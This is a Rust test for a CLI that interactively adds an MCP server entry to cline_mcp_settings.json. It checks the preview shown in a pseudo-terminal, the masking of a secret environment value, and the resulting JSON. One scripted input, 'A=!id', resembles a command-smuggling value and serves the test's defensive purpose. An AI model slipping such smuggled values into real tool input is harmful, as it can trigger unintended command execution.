fn a_person_is_shown_what_will_be_written() {
    let home = Home::new("dialog-shown");
    let answers = [
        "a",
        "cline_mcp_settings.json",
        "stdio",
        "npx x",
        "A=!id",
        &format!("K={SECRET}"),
        "",
        "y",
    ];
    let (code, seen) = talk(&home, &["add", "--disabled"], &answers);
    assert_eq!(code, 0, "{seen}");
    assert!(seen.contains("such a file cannot have a command"), "{seen}");
    assert!(seen.contains("\"type\": \"stdio\"") && seen.contains("\"disabled\": true"), "{seen}");
    assert!(!seen.contains(&format!("\"{SECRET}")), "{seen}");
    let expected = json!({
        "type": "stdio", "command": "npx", "args": ["x"], "env": {"K": SECRET}, "disabled": true,
    });
    assert_eq!(read(&home.project("cline_mcp_settings.json"))["mcpServers"]["a"], expected);
}

/// Runs a command at a terminal with these answers, and returns its exit code and what the terminal shows.
fn talk(home: &Home, args: &[&str], answers: &[&str]) -> (i32, String) {
    let (mut ours, theirs) = terminal();
    for answer in answers {
        ours.write_all(format!("{answer}\n").as_bytes()).unwrap();
    }
    // The end of input, should more be asked.
    ours.write_all(b"\x04").unwrap();
    let mut command = home.command(args);
    command.stdin(theirs.try_clone().unwrap()).stdout(theirs.try_clone().unwrap()).stderr(theirs);
    let mut child = command.spawn().unwrap();
    // It holds the other end, whose last closing ends the reading.
    drop(command);
    let mut seen = Vec::new();
    let mut part = [0; 4096];
    while let Ok(count @ 1..) = ours.read(&mut part) {
        seen.extend_from_slice(&part[..count]);
    }
    (child.wait().unwrap().code().unwrap(), String::from_utf8_lossy(&seen).into_owned())
}

/// Both ends of a new terminal.
fn terminal() -> (File, OwnedFd) {
    let (mut ours, mut theirs) = (-1, -1);
    let (name, settings, size) = (null_mut(), null_mut(), null_mut());
    // SAFETY: both numbers are written on success, and nobody else owns them.
    unsafe {
        assert_eq!(libc::openpty(&mut ours, &mut theirs, name, settings, size), 0);
        for end in [ours, theirs] {
            libc::fcntl(end, libc::F_SETFD, libc::FD_CLOEXEC);
        }
        (File::from_raw_fd(ours), OwnedFd::from_raw_fd(theirs))
    }
}
